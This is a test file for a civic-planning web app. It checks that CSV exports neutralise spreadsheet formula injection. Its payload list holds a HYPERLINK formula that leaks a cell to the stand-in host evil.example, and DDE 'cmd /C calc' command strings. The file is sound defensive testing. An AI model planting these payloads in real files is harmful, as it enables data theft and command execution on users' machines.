import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type Client, type TestApp } from '../test/app.ts';
import { neutraliseCsvText, writeCsv } from '../platform/csv.ts';

/**
 * CSV formula injection (issue 14 §1.4): text that a spreadsheet would run as a formula leaves every
 * CSV export as text (a leading single quote, quoted), whoever planted it; numbers stay exact.
 */
let t: TestApp;
let lead: Client;
let spaceId: string;

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

function rows(csv: string): Record<string, string>[] {
  return parse(csv.replace(/^\uFEFF/, ''), { columns: true, relax_column_count: true }) as Record<string, string>[];
}

beforeAll(async () => {
  t = await createTestApp();
  lead = (await t.user({ name: 'Processledare' })).client;
  spaceId = (await lead.post('/api/spaces', { name: 'Export', kind: 'project', visibility: 'public', municipalityCodes: ['2039'] })).body
    .id;
});
afterAll(() => t.close());

describe('CSV exports', () => {
  it('neutralise formulas planted anonymously through the public input form', async () => {
    for (const text of PAYLOADS) {
      const answer = await t.client().post(`/api/spaces/${spaceId}/inputs`, { text: `${text} `, kind: 'idea', theme: 'transport' });
      expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    }
    const csv = await t.client().get(`/api/spaces/${spaceId}/inputs/export?format=csv`);
    expect(csv.status).toBe(200);
    const texts = rows(csv.body).map((r) => r.text);
    expect(texts).toHaveLength(PAYLOADS.length);
    for (const text of texts) expect(text!.startsWith("'"), text).toBe(true);
    expect(texts).toContain(`'${PAYLOADS[0]}`);
    // Quoted, so the cell starts with "' on the wire and a spreadsheet reads text.
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Klicka"")"`);
    // Numbers stay numbers: the input numbers are plain.
    expect(
      rows(csv.body)
        .map((r) => r.number)
        .every((n) => /^\d+$/.test(n!)),
    ).toBe(true);
  });

  it('neutralise service point names in the csv and engine-csv exports, keeping coordinates exact', async () => {
    const created = await lead.post(`/api/spaces/${spaceId}/service-points`, {
      externalId: '-butik',
      name: "=cmd|' /C calc'!A0",
      lon: 13.1432,
      lat: 61.6925,
      kinds: ['groceries_full'],
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    for (const format of ['csv', 'engine-csv']) {
      const answer = await lead.get(`/api/spaces/${spaceId}/service-points/export?format=${format}`);
      expect(answer.status, format).toBe(200);
      const [row] = rows(answer.body);
      expect(row).toMatchObject({ id: "'-butik", name: "'=cmd|' /C calc'!A0", lon: '13.1432', lat: '61.6925' });
    }
  });

  it('neutralise organisation names in the network export', async () => {
    const org = await lead.post('/api/organisations', {
      name: '@Föreningen',
      sector: 'civil_society',
      type: 'association',
      level: 'local',
      municipalityCode: '2039',
    });
    expect(org.status, JSON.stringify(org.body)).toBe(201);
    expect((await lead.post(`/api/spaces/${spaceId}/organisations`, { organisationId: org.body.id })).status).toBe(201);
    const answer = await lead.get(`/api/spaces/${spaceId}/network/export?format=organisations.csv`);
    expect(answer.status).toBe(200);
    expect(rows(answer.body).map((r) => r.name)).toContain("'@Föreningen");
  });
});

describe('the shared CSV writer', () => {
  it('leaves numbers and plain negative numbers exact and neutralises the rest', () => {
    const csv = writeCsv(
      ['id', 'seconds', 'meters', 'label'],
      [
        ['=1+1', -12.5, 0, '-3'],
        ['a', 1e-7, -0, '-1+2'],
      ],
    );
    expect(csv).toBe(`id,seconds,meters,label\n"'=1+1",-12.5,0,-3\na,1e-7,0,"'-1+2"\n`);
  });

  it("neutralises the engine's result file only in its text cells", () => {
    const engine = 'origin_id,type,nearest_id,seconds,meters\n=A1,grocery,@shop,-1,1234.5\nby-1,grocery,b2,61,900\n';
    expect(neutraliseCsvText(engine)).toBe(
      'origin_id,type,nearest_id,seconds,meters\n"\'=A1",grocery,"\'@shop",-1,1234.5\nby-1,grocery,b2,61,900\n',
    );
    const clean = 'origin_id,type,seconds\na,grocery,-1\n';
    expect(neutraliseCsvText(clean)).toBe(clean);
  });
});
